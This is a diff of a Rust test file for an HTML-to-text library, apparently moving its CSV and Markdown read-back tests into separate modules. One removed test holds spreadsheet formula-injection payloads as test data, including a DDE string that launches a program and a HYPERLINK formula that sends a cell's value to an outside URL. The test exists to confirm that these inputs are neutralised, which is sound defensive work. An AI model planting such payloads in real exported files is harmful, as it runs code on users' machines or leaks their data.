@@ -1,17 +1,18 @@
 //! What the formats write: Markdown that a parser reads back to the same structure, HTML in which nothing can act.
 
-use std::collections::HashMap;
 use std::sync::LazyLock;
 
-use cleancopy::render::{Format, RenderOptions, csv, json, render};
+use cleancopy::render::{Format, RenderOptions, json, render};
 use cleancopy::unstable::label::{Labeller, Passes, Tables};
 use cleancopy::unstable::read::page::Origin;
 use cleancopy::{Article, Cleaner, Hints, Role};
-use proptest::prelude::*;
-use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 
+#[path = "render/cells.rs"]
+mod cells;
 #[path = "render/layout.rs"]
 mod layout;
+#[path = "render/read_back.rs"]
+mod read_back;
 
 const ALL: RenderOptions =
     RenderOptions { title: true, links: true, images: true, captions: true, tables: true, emphasis: true };
@@ -230,80 +231,6 @@ fn html_and_xml_nest_as_the_page_does() {
     assert!(xml.contains(list), "{xml}");
 }
 
-/// The cells of one article by the names of their columns, as a CSV parser reads them back.
-fn csv_cells(record: &json::Record<'_>) -> HashMap<String, String> {
-    let table = csv::head() + &csv::row(record);
-    let rows = ::csv::Reader::from_reader(table.as_bytes()).into_deserialize().collect::<Result<Vec<_>, _>>();
-    let mut rows: Vec<HashMap<String, String>> = rows.unwrap_or_else(|error| panic!("{error}: {table}"));
-    assert_eq!(rows.len(), 1, "{table}");
-    rows.remove(0)
-}
-
-#[test]
-fn csv_is_read_back() {
-    let article = clean("<p>She said \"no\", twice.</p>");
-    let url = Some("https://example.org/a/b");
-    let mut record =
-        json::Record::new("a,b", url, &article, &RenderOptions::default(), json::Extras::default());
-    let authors = ["Ann Lee".to_owned(), "Bo Li".to_owned()];
-    (record.authors, record.date, record.sitename) = (&authors, Some("2024-05-03"), Some("The Example"));
-    let expected = [
-        ("id", "a,b"),
-        ("url", "https://example.org/a/b"),
-        ("hostname", "example.org"),
-        ("sitename", "The Example"),
-        ("title", "Bridge"),
-        ("authors", "Ann Lee; Bo Li"),
-        ("date", "2024-05-03"),
-        ("language", "en"),
-        ("pagetype", article.pagetype.name()),
-        ("is_article", if article.is_article { "true" } else { "false" }),
-        ("article_score", &article.article_score.to_string()),
-        ("confidence", &article.confidence.to_string()),
-        ("text", &article.text()),
-    ];
-    assert!(record.text.contains("\"no\", twice.\n\n"), "{}", record.text);
-    let cells = csv_cells(&record);
-    for (name, value) in expected {
-        assert_eq!(cells[name], value, "{name}");
-    }
-    assert_eq!(cells.len(), expected.len());
-    assert!(csv::head().ends_with("\r\n") && csv::row(&record).ends_with("\r\n"));
-}
-
-/// A spreadsheet runs what such a cell says; with an apostrophe before it, it is text.
-#[test]
-fn cells_of_csv_are_no_formulas() {
-    let article = clean("<p>Nothing else.</p>");
-    let cases = [
-        ("a formula", "=HYPERLINK(\"https://example.org/\"&A1,\"more\")", true),
-        ("a formula that runs a program", "+cmd|' /C calc'!A0", true),
-        ("an item of a list", "- one\n\n- two", true),
-        ("an account", "@example", true),
-        ("a tab", "\t=1+1", true),
-        ("a carriage return", "\r=1+1", true),
-        ("a line feed", "\n=1+1", true),
-        ("a wide equals sign", "＝1+1", true),
-        ("a text that was marked before", "'=1+1", true),
-        ("signs inside a text", "a=b+c-d@e", false),
-        ("a dash of dialogue", "– Who goes there?", false),
-        ("an apostrophe that belongs to the text", "'Tis the season", false),
-        ("a negative number in a text", "The index fell by -3 points", false),
-        ("nothing", "", false),
-    ];
-    for (name, text, marked) in cases {
-        let mut record =
-            json::Record::new(text, None, &article, &RenderOptions::default(), json::Extras::default());
-        (record.text, record.title) = (text.to_owned(), Some(text));
-        let cells = csv_cells(&record);
-        for column in ["id", "title", "text"] {
-            let cell = &cells[column];
-            assert_eq!(cell.strip_prefix('\'').filter(|_| marked).unwrap_or(cell), text, "{name}: {column}");
-            assert_eq!(cell.len() - text.len(), usize::from(marked), "{name}: {column}: {cell}");
-        }
-    }
-}
-
 #[test]
 fn tei_is_read_back() {
     let body = "<h2>Costs &amp; <i>risks</i></h2><blockquote>&lt;quoted&gt; \u{1}</blockquote><p>See <a href='/x?a&b=\"'>it</a></p>\
@@ -414,91 +341,6 @@ fn other_tools_names() {
         let value: serde_json::Value =
             serde_json::from_str(&record.to_json_as(names)).expect("a record is JSON");
         assert_eq!(value, expected, "{names:?}");
-    }
-}
-
-/// Blocks of Markdown as a parser sees them: the containers and kind of each, and its text.
-fn read_back(markdown: &str) -> Vec<(String, String)> {
-    let mut stack: Vec<String> = Vec::new();
-    let mut blocks: Vec<(String, String)> = Vec::new();
-    let mut text: Option<String> = None;
-    for event in Parser::new_ext(markdown, Options::ENABLE_TABLES) {
-        match event {
-            Event::Start(tag) => {
-                let name = match tag {
-                    Tag::List(start) => if start.is_some() { "ol" } else { "ul" }.to_owned(),
-                    Tag::Item => "li".to_owned(),
-                    Tag::BlockQuote(_) => "quote".to_owned(),
-                    Tag::Heading { level, .. } => format!("{level}"),
-                    Tag::CodeBlock(_) => "pre".to_owned(),
-                    Tag::Paragraph => "p".to_owned(),
-                    other => format!("{other:?}"),
-                };
-                flush(&stack, &mut text, &mut blocks);
-                stack.push(name);
-            }
-            Event::End(end) => {
-                flush(&stack, &mut text, &mut blocks);
-                let _: TagEnd = end;
-                stack.pop();
-            }
-            Event::Text(part) | Event::Code(part) => text.get_or_insert_default().push_str(&part),
-            Event::HardBreak | Event::SoftBreak => text.get_or_insert_default().push('\n'),
-            other => text.get_or_insert_default().push_str(&format!("{other:?}")),
-        }
-    }
-    blocks
-}
-
-fn flush(stack: &[String], text: &mut Option<String>, blocks: &mut Vec<(String, String)>) {
-    if let Some(text) = text.take() {
-        let names: Vec<&str> = stack.iter().map(String::as_str).filter(|name| *name != "p").collect();
-        blocks.push((names.join(" "), text.trim_end_matches('\n').to_owned()));
-    }
-}
-
-/// A piece of a page, and the blocks that it must be read back as.
-fn piece() -> impl Strategy<Value = (String, Vec<(String, String)>)> {
-    let text =
-        "[a-zA-Z0-9.#>*_`+=~<&;!|\\[\\]()\\\\-]{1,6}( [a-zA-Z0-9.#>*_`+=~<&;!|\\[\\]()\\\\-]{1,6}){0,4}";
-    let escape = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;");
-    prop_oneof![
-        text.prop_map(move |t| (format!("<p>{}</p>", escape(&t)), vec![(String::new(), t)])),
-        text.prop_map(move |t| (format!("<h3>{}</h3>", escape(&t)), vec![("h3".to_owned(), t)])),
-        text.prop_map(move |t| (
-            format!("<blockquote>{}</blockquote>", escape(&t)),
-            vec![("quote".to_owned(), t)]
-        )),
-        (text, text).prop_map(move |(a, b)| {
-            let html = format!("<ul><li>{}</li><li>{}</li></ul>", escape(&a), escape(&b));
-            (html, vec![("ul li".to_owned(), a), ("ul li".to_owned(), b)])
-        }),
-        (text, text).prop_map(move |(a, b)| {
-            let html = format!("<ol><li>{}<ul><li>{}</li></ul></li></ol>", escape(&a), escape(&b));
-            (html, vec![("ol li".to_owned(), a), ("ol li ul li".to_owned(), b)])
-        }),
-        (text, text).prop_map(move |(a, b)| (
-            format!("<p>{}<br>{}</p>", escape(&a), escape(&b)),
-            vec![(String::new(), format!("{a}\n{b}"))]
-        )),
-    ]
-}
-
-proptest! {
-    #![proptest_config(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() })]
-
-    #[test]
-    fn markdown_is_read_back_to_the_same_structure(pieces in proptest::collection::vec(piece(), 1..4)) {
-        let html: String = pieces.iter().map(|(html, _)| html.as_str()).collect();
-        let article = clean(&html);
-        let kept: Vec<String> = article.blocks().map(|block| block.text.to_owned()).collect();
-        let wanted: Vec<(String, String)> = pieces.into_iter().flat_map(|(_, blocks)| blocks).collect();
-        // What the labels drop is not the renderer's business.
-        prop_assume!(wanted.iter().all(|(_, text)| kept.contains(text)));
-        let markdown = render(&article, Format::Markdown, &RenderOptions::default());
-        let read = read_back(&markdown);
-        let found = read.windows(wanted.len()).any(|window| window == wanted);
-        prop_assert!(found, "{markdown}\n{read:?}\n{wanted:?}");
     }
 }
 
